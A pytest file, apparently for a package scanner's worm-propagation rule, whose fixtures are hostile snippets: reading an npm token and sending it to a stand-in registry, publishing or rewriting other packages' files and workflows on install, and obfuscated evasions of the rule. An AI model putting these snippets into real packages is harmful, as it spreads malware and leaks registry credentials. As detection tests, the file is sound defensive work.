"""Publishing, tokens of registries, other packages' files and workflows, each beside near misses."""

# ruff: noqa: E501 - a table reads best with one case in a line

from __future__ import annotations

import pytest

from assay.rules.worm_001_propagation import RULE
from tests.behaviour import at, findings, worst

_HEAD = "import os, subprocess, requests, site, sysconfig, sys\n"
_TOKEN = "t = open(os.path.expanduser('~/.npmrc')).read()\n"


def severity(trigger: str, source: str) -> str:
    return worst(RULE, *at(trigger, _HEAD + source))


@pytest.mark.parametrize(
    ("trigger", "source", "expected"),
    [
        ("install", "os.system('twine upload dist/*')", "critical"),
        ("import", "subprocess.run([sys.executable, '-m', 'twine', 'upload', 'dist/*'])", "high"),
        ("import", "subprocess.run('npm publish', shell=True)", "high"),
        ("call", _TOKEN + "requests.get('https://registry.example.invalid/-/whoami', headers={'a': t})", "high"),
        ("install", "p = os.path.join(site.getsitepackages()[0], 'other', '__init__.py')\nopen(p, 'a').write('import x')", "critical"),
        ("import", "open('/usr/lib/python3/dist-packages/other/__init__.py', 'w').write('import x')", "high"),
        ("import", "open('.github/workflows/a.yml', 'w').write('a')\nos.system('git push')", "high"),
        ("call", "open('.github/workflows/a.yml', 'w').write('a')\nos.system('git push')", "low"),
        ("install", "open('../node_modules/other/lib/a.js', 'w').write('a')", "critical"),
        ("import", "requests.put('https://api.example.invalid/repos/a/contents/.github/workflows/a.yml', json={'a': 1})", "high"),
        ("call", "os.system('twine upload dist/*')", "info"),
        ("install", "if sys.argv[-1] == 'publish':\n    os.system('twine upload dist/*')\n    sys.exit()", "info"),
    ],
)  # fmt: skip
def test_what_spreads(trigger: str, source: str, expected: str) -> None:
    assert severity(trigger, source) == expected


@pytest.mark.parametrize(
    "source",
    [
        "os.system('pip install demo')",
        "open('.github/workflows/a.yml', 'w').write('a')",
        _TOKEN + "print(len(t))",
        _TOKEN + "requests.get(t.split()[1] or 'https://registry.example.invalid/-/whoami')",
        "open(os.path.join(site.getsitepackages()[0], 'other', '__init__.py')).read()",
        "print(sysconfig.get_paths())",
        "os.system('git push')",
        "open('node_modules/.cache/demo/a.js', 'w').write('a')",
        "requests.put('https://api.example.invalid/repos/a/contents/.github/workflows/', json={'a': 1})",
    ],
)
def test_near_misses(source: str) -> None:
    assert severity("import", source) == "none"


@pytest.mark.parametrize(
    "source",
    [
        "c = 'twi' + 'ne up' + 'load x'\nos.popen(c)",
        "from subprocess import Popen as P\nP(['npm', '--silent', 'publish'][::2])",
        "d = sysconfig.get_paths()['purelib']\nwith open(d + '/other/core.py', 'a') as f: f.write('import x')",
    ],
)
def test_mutations_change_nothing(source: str) -> None:
    assert severity("install", source) == "critical"


def test_a_command_that_somebody_asks_for_is_innocent() -> None:
    source = """
        import os
        from setuptools import Command, setup
        class Upload(Command):
            def run(self):
                os.system("twine upload dist/*")
        setup(cmdclass={"upload": Upload})
    """
    assert worst(RULE, {"setup.py": source}, "sdist") == "info"
    assert worst(RULE, {"setup.py": source.replace('"upload"', '"install"')}, "sdist") == "critical"


def test_says_how_it_spreads() -> None:
    (found,) = findings(RULE, *at("import", _HEAD + "os.system('poetry publish')"))
    assert found.evidence == ("poetry publish",)
